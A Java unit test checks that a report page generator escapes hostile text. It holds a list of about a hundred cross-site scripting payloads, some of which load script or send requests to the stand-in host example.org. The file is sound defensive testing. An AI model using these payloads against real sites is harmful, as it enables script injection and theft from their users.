package dev.outreach.output.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.outreach.report.SampleSheets;
import dev.outreach.sheet.Sentence;
import dev.outreach.sheet.Sheet;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructField;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Markup and scripts in every text of every table stay texts. */
class HostileTextTest {
  private static final int PAYLOADS = 100;

  private static final List<String> CODES =
      List.of("alert(1)", "document.title='x'", "fetch('//example.org')", "top.location='#x'");

  /** Each way out of a text, an attribute, a comment or another language; {@code %} is the code. */
  private static final List<String> WAYS =
      List.of(
          "<script>%</script>",
          "<SCRIPT SRC=//example.org/x.js>%</SCRIPT>",
          "</td></tr></table><script>%</script>",
          "</bdi><script>%</script><bdi>",
          "</style><script>%</script>",
          "</title><script>%</script>",
          "</svg><script>%</script>",
          "<svg onload=%>",
          "<svg><style>@import '//example.org/%'</style></svg>",
          "<img src=x onerror=%>",
          "<img src=//example.org/%>",
          "\" onmouseover=\"%",
          "' onfocus='% autofocus",
          "\"><iframe srcdoc=\"<script>%</script>\">",
          "<a href=\"javascript:%\">x</a>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=%&gt;\">",
          "<!--><script>%</script>-->",
          "<![CDATA[<script>%</script>]]>",
          "<base href=//example.org/%>",
          "<meta http-equiv=refresh content=\"0;url=//example.org/%\">",
          "<link rel=stylesheet href=//example.org/%>",
          "<form action=//example.org/%><input autofocus onfocus=%>",
          "<details open ontoggle=%>",
          "&lt;script&gt;%&lt;/script&gt;&#60;script&#62;",
          "${%} @if(true) $unsafe{%} {0} {value, plural, other {%}}");

  private static Set<String> payloads;
  private static Document harmless;
  private static Document hostile;

  @BeforeAll
  static void writeBoth() {
    payloads = new LinkedHashSet<>();
    WAYS.forEach(way -> CODES.forEach(code -> payloads.add(way.replace("%", code))));
    harmless = page("Ana ");
    hostile = page(null);
  }

  /** Each table has a row a payload, which stands in all of its texts. */
  private static Document page(String harmless) {
    List<String> texts = new ArrayList<>(payloads);
    if (harmless != null) {
      texts.replaceAll(payload -> harmless + payload.length());
    }
    List<Sheet> sheets = SampleSheets.all().stream().map(sheet -> withTexts(sheet, texts)).toList();
    List<Sentence> sentences = texts.stream().map(text -> new Sentence("recontact", text)).toList();
    return Jsoup.parse(Pages.html(sheets, sentences, Pages.FRENCH));
  }

  private static Sheet withTexts(Sheet sheet, List<String> texts) {
    Row first = sheet.rows().get(0);
    StructField[] columns = sheet.schema().fields();
    List<Row> rows = new ArrayList<>();
    for (String text : texts) {
      Object[] cells = new Object[columns.length];
      for (int i = 0; i < cells.length; i++) {
        cells[i] = columns[i].dataType().equals(DataTypes.StringType) ? text : first.get(i);
      }
      rows.add(RowFactory.create(cells));
    }
    return sheet.withRows(rows);
  }

  private static Set<String> names(Document page) {
    Set<String> names = new TreeSet<>();
    for (Element element : page.getAllElements()) {
      names.add(element.normalName());
      for (Attribute attribute : element.attributes()) {
        names.add(element.normalName() + " " + attribute.getKey());
      }
    }
    return names;
  }

  @Test
  void thereAreAHundredPayloads() {
    assertEquals(PAYLOADS, payloads.size());
  }

  @Test
  void noElementAndNoAttributeComesOfThem() {
    assertEquals(names(harmless), names(hostile));
    for (String table : List.of("table", "tr", "th", "td", "section", "a", "li", "bdi")) {
      assertEquals(harmless.select(table).size(), hostile.select(table).size(), table);
    }
    assertEquals(0, hostile.select("script").size());
  }

  @Test
  void eachOfThemIsReadAsItWasWritten() {
    for (String column : List.of("recontact", "referrals", "data_quality", "variants")) {
      List<String> shown =
          hostile.getElementById(column).select("tbody tr").stream()
              .map(row -> row.selectFirst("bdi").wholeText())
              .toList();
      assertEquals(List.copyOf(payloads), shown, column);
    }
    List<String> answers = hostile.select(".answers li").stream().map(Element::wholeText).toList();
    assertEquals(List.copyOf(payloads), answers);
  }

  @Test
  void theyChangeNeitherThePolicyNorTheStyle() {
    assertEquals(harmless.select("head").outerHtml(), hostile.select("head").outerHtml());
    assertTrue(hostile.select("style").size() == 1);
  }
}
